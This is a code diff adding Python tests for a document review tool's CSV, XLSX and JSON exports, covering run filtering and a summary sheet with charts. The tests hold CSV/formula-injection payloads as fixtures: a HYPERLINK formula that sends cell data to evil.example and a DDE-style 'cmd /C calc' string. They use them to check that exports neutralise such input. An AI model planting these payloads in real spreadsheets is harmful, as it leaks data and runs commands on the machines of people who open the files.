@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import zipfile
 from pathlib import Path
 
 from openpyxl import load_workbook
@@ -15,7 +16,7 @@ from extractor.review import ReviewStore
 from extractor.review.cli import register
 from extractor.review.export import export_csv, export_json
 from extractor.review.workbook import export_xlsx
-from tests.review.fixtures import DOC_ID, RATE_ACTUAL, REASON_SCORE, WRONG_SCORE
+from tests.review.fixtures import DOC_ID, RATE_ACTUAL, REASON_SCORE, WRONG_SCORE, build
 
 runner = CliRunner()
 
@@ -71,7 +72,7 @@ def test_csv_export(store: ReviewStore) -> None:
 def test_xlsx_export(store: ReviewStore) -> None:
     _reviewed(store)
     book = load_workbook(io.BytesIO(export_xlsx([store.document_view(DOC_ID)])))
-    assert book.sheetnames == ["项目", "资金", "指标", "问题", "字段审核", "审核记录"]
+    assert book.sheetnames == ["汇总", "项目", "资金", "指标", "问题", "字段审核", "审核记录"]
     indicators = book["指标"]
     header = [c.value for c in indicators[1]]
     assert header[:8] == [
@@ -128,3 +129,134 @@ def test_export_command(store: ReviewStore, tmp_path: Path) -> None:
     assert data["documents"][0]["result"]["projects"][0]["indicators"][4]["score"] == 15
     bad = runner.invoke(app, ["export", "--db", db, "--format", "pdf"])
     assert bad.exit_code == 2
+    # --run: only the documents that run brought in.
+    run = store.start_run("第二批")
+    store.import_result(*build("doc_second"), run=run)
+    out = tmp_path / "run.json"
+    one_run = runner.invoke(
+        app, ["export", "--db", db, "--format", "json", "--run", str(run), "--out", str(out)]
+    )
+    assert one_run.exit_code == 0, one_run.output
+    documents = json.loads(out.read_text(encoding="utf-8"))["documents"]
+    assert [d["doc_id"] for d in documents] == ["doc_second"]
+    unknown = runner.invoke(app, ["export", "--db", db, "--run", "99", "--out", str(out)])
+    assert unknown.exit_code == 2 and "没有批次 99" in unknown.output
+
+
+# --- the summary sheet and text that looks like a formula -------------------------------
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+HOSTILE_REVIEWER = "=1+1"
+HOSTILE_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def _hostile_store(tmp_path: Path) -> ReviewStore:
+    store = ReviewStore.open(tmp_path / "hostile.db")
+    result, pages = build("doc_hostile", name=HOSTILE_NAME)
+    store.import_result(result, pages)
+    store.decide(
+        "doc_hostile",
+        "p1",
+        WRONG_SCORE,
+        "modify",
+        value="15",
+        note=HOSTILE_NOTE,
+        reviewer=HOSTILE_REVIEWER,
+        version=0,
+    )
+    store.decide(
+        "doc_hostile",
+        "p1",
+        "indicators[0].name",
+        "modify",
+        value="-2+3",
+        reviewer="张三",
+        version=0,
+    )
+    return store
+
+
+def _sheet_xml(data: bytes) -> list[str]:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return [
+            archive.read(name).decode("utf-8")
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/sheet")
+        ]
+
+
+def test_xlsx_writes_formula_like_text_as_text(tmp_path: Path) -> None:
+    store = _hostile_store(tmp_path)
+    data = export_xlsx([store.document_view("doc_hostile")])
+    assert all("<f>" not in xml for xml in _sheet_xml(data))  # no live formula anywhere
+    book = load_workbook(io.BytesIO(data))
+    found = {}
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.value in (HOSTILE_NAME, HOSTILE_REVIEWER, HOSTILE_NOTE, "-2+3"):
+                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell)
+                    found[cell.value] = sheet.title
+    assert set(found) == {HOSTILE_NAME, HOSTILE_REVIEWER, HOSTILE_NOTE, "-2+3"}
+    # Numbers stay numbers.
+    scores = [r[14] for r in book["指标"].iter_rows(min_row=2, values_only=True)]
+    assert 15 in scores and all(isinstance(s, (int, float)) for s in scores if s is not None)
+
+
+def test_csv_writes_formula_like_text_as_text(tmp_path: Path) -> None:
+    store = _hostile_store(tmp_path)
+    text = export_csv([store.document_view("doc_hostile")]).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + HOSTILE_NAME in cells and HOSTILE_NAME not in cells
+    assert "'" + HOSTILE_REVIEWER in cells and "'" + HOSTILE_NOTE in cells
+    assert "'-2+3" in cells
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+    assert "15" in cells
+
+
+def test_review_sheet_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
+    from extractor.review.sheet import export_sheet
+
+    store = _hostile_store(tmp_path)
+    data, _rows = export_sheet(store)
+    assert all("<f>" not in xml for xml in _sheet_xml(data))
+    names = [
+        r[2]
+        for r in load_workbook(io.BytesIO(data))["待处理"].iter_rows(min_row=2, values_only=True)
+    ]
+    assert HOSTILE_NAME in names
+
+
+def test_xlsx_summary_sheet_has_native_charts_of_the_figures(store: ReviewStore) -> None:
+    _reviewed(store)
+    data = export_xlsx(store.views())
+    book = load_workbook(io.BytesIO(data))
+    assert book.sheetnames[0] == "汇总"
+    sheet = book["汇总"]
+    labels = [row[0] for row in sheet.iter_rows(values_only=True)]
+    for heading in (
+        "概况",
+        "资金执行率分布",
+        "总得分分布",
+        "问题（按规则与严重度）",
+        "审核进度（问题状态）",
+    ):
+        assert heading in labels
+    rows: dict[str, tuple[object, ...]] = {}
+    for row in sheet.iter_rows(values_only=True):
+        if isinstance(row[0], str):
+            rows.setdefault(row[0], row)  # the first table that has the label
+    assert rows["文档"][1] == 2 and rows["审核记录"][1] == 3
+    assert rows["80–90%"][1] == 2  # both demo forms execute 82.89%
+    assert rows["95–100 优"][1] == 2  # 96.29 on both
+    assert rows["已消除（修改后）"][1] == 2
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        charts = sorted(n for n in archive.namelist() if n.startswith("xl/charts/chart"))
+        assert len(charts) == 5
+        xml = [archive.read(n).decode("utf-8") for n in charts]
+        drawing = archive.read("xl/drawings/drawing1.xml").decode("utf-8")
+    assert drawing.count("<c:chart ") == 5  # five charts placed on the 汇总 sheet
+    assert all("'汇总'!$B$" in chart for chart in xml)
+    assert sum("<c:barChart>" in c or "<barChart>" in c for c in xml) == 4
+    assert sum("<c:pieChart>" in c or "<pieChart>" in c for c in xml) == 1
